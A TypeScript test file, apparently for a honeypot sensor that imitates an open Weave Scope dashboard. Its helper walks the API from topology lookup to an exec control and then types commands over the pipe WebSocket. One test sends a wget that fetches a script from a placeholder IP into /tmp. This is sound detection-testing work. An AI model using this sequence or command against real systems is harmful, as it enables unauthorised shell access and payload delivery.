/** Weave Scope as it is abused: look for a container, ask for a shell in it, type into the pipe. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { after, before, describe, it } from 'node:test';
import { type Sensor, startSensor } from './sensor.ts';

describe('an open Weave Scope', () => {
  let sensor: Sensor;
  let base: string;

  before(async () => {
    sensor = await startSensor(['weave']);
    base = `127.0.0.1:${sensor.port('weave')}`;
  });
  after(() => sensor[Symbol.asyncDispose]());

  async function json<T>(path: string, method = 'GET'): Promise<T> {
    const answer = await fetch(`http://${base}${path}`, { method });
    assert.ok(answer.ok, `${path}: ${answer.status}`);
    return (await answer.json()) as T;
  }

  interface Node {
    readonly controls: readonly { readonly id: string; readonly probeId: string; readonly nodeId: string }[];
  }

  /** Types lines into the shell of the first node of a topology; gives all that came back. */
  async function type(
    topology: string,
    control: string,
    lines: readonly string[],
    until: RegExp,
  ): Promise<string> {
    const { nodes } = await json<{ nodes: object }>(`/api/topology/${topology}`);
    const id = encodeURIComponent(Object.keys(nodes)[0]!);
    const { node } = await json<{ node: Node }>(`/api/topology/${topology}/${id}`);
    const { probeId, nodeId } = node.controls.find((one) => one.id === control)!;
    const { pipe } = await json<{ pipe: string }>(
      `/api/control/${probeId}/${encodeURIComponent(nodeId)}/${control}`,
      'POST',
    );
    const socket = new WebSocket(`ws://${base}/api/pipe/${pipe}`);
    socket.binaryType = 'arraybuffer';
    let shown = '';
    socket.onmessage = ({ data }) => {
      shown += Buffer.from(data).toString();
    };
    await once(socket, 'open');
    for (const line of lines) socket.send(Buffer.from(`${line}\r`));
    for (
      const start = performance.now();
      !until.test(shown);
      await new Promise((resolve) => setTimeout(resolve, 10))
    )
      assert.ok(
        performance.now() - start < 15_000,
        `waited in vain for ${until} in ${JSON.stringify(shown)}`,
      );
    socket.close();
    await once(socket, 'close');
    return shown;
  }

  it('opens a shell of the host', async () => {
    await type(
      'hosts',
      'host_exec',
      ['echo "in $(pwd) <$TERM>"', 'wget -q http://198.51.100.7/x.sh -O /tmp/x.sh'],
      /in \/ <xterm>[\s\S]*x\.sh\r\n[\s\S]*\$?# $/,
    );
    const told = await sensor.event('weave.exec', ({ data }) => String(data!.line).startsWith('wget'));
    assert.deepEqual([told.data!.control, told.norm.urls], ['host_exec', ['http://198.51.100.7/x.sh']]);
  });

  it('opens a shell of a container, whose files are its own', async () => {
    await type(
      'containers',
      'docker_exec_container',
      ['echo x > /marker', 'ls /.dockerenv /marker'],
      /\/\.dockerenv\s+\/marker/,
    );
    const told = await sensor.event('weave.exec', ({ data }) => String(data!.line).startsWith('echo x'));
    assert.match(String(told.data!.node), /^[0-9a-f]{64};<container>$/);
    assert.deepEqual(
      (told.data!.artefacts as { name: string }[]).map(({ name }) => name),
      ['/marker'],
    );
  });

  it('pushes a topology to whoever watches', async () => {
    const socket = new WebSocket(`ws://${base}/api/topology/hosts/ws?t=5s`);
    const [message] = (await once(socket, 'message')) as [MessageEvent];
    const diff = JSON.parse(message.data) as { add: { id: string }[]; reset: boolean };
    assert.match(diff.add[0]!.id, /;<host>$/);
    assert.equal(diff.reset, true);
    socket.close();
  });
});
